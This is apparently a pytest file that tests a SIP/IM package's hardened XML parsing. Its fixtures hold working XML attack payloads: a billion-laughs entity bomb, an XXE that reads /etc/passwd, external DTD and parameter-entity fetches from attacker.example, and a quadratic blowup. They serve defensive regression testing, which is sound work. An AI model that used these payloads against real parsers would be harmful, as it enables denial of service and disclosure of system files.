"""Hardened XML: billion laughs, XXE, external DTDs, size/depth limits -> ContentError."""

from __future__ import annotations

import pytest

from simpleim.content.conference_info import parse_conference_info
from simpleim.content.imdn import parse_imdn
from simpleim.content.iscomposing import parse_iscomposing
from simpleim.content.resource_lists import parse_resource_lists
from simpleim.content.xml import XmlLimits, XmlNode, parse_xml
from simpleim.errors import ContentError

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>&lol9;</message-id>
<delivery-notification><status><delivered/></status></delivery-notification></imdn>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE imdn [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<imdn xmlns="urn:ietf:params:xml:ns:imdn"><message-id>&xxe;</message-id>
<delivery-notification><status><delivered/></status></delivery-notification></imdn>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>
<resource-lists xmlns="urn:ietf:params:xml:ns:resource-lists"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE isComposing SYSTEM "http://attacker.example/x.dtd">
<isComposing xmlns="urn:ietf:params:xml:ns:im-iscomposing"><state>idle</state></isComposing>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"x" * 5000 + b'">]>'
             b'<conference-info xmlns="urn:ietf:params:xml:ns:conference-info" entity="e">'
             + b"&a;" * 500 + b"</conference-info>")

PARSERS = [parse_imdn, parse_iscomposing, parse_conference_info, parse_resource_lists, parse_xml]


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD,
                                 QUADRATIC], ids=["billion-laughs", "xxe-file", "xxe-parameter",
                                                  "external-dtd", "quadratic-blowup"])
@pytest.mark.parametrize("parser", PARSERS, ids=lambda p: p.__name__)
def test_attacks_raise_content_error(doc: bytes, parser) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(ContentError) as exc:
        parser(doc)
    assert exc.value.status == 400
    assert "lol" not in exc.value.reason and "root:" not in exc.value.reason


def test_size_and_depth_limits_are_413() -> None:
    with pytest.raises(ContentError) as exc:
        parse_xml(b"<a>" + b" " * 100 + b"</a>", XmlLimits(max_size=50))
    assert exc.value.status == 413
    deep = b"<a>" * 100 + b"</a>" * 100
    with pytest.raises(ContentError) as exc:
        parse_xml(deep)
    assert exc.value.status == 413
    many = b"<a>" + b"<b/>" * 200 + b"</a>"
    with pytest.raises(ContentError) as exc:
        parse_xml(many, XmlLimits(max_elements=100))
    assert exc.value.status == 413


def test_malformed_and_undecodable() -> None:
    for bad in (b"<a>", b"", b"\xff\xfe<a/>", "<a>\udcff</a>", b"<a/><b/>"):
        with pytest.raises(ContentError):
            parse_xml(bad)


def test_writer_escapes() -> None:
    node = XmlNode("r", (("q", 'a"<&>\n'),), (XmlNode("t", text="x<&>y"),))
    root = parse_xml(node.to_bytes())
    assert root.get("q") == 'a"<&>\n'
    assert root[0].text == "x<&>y"
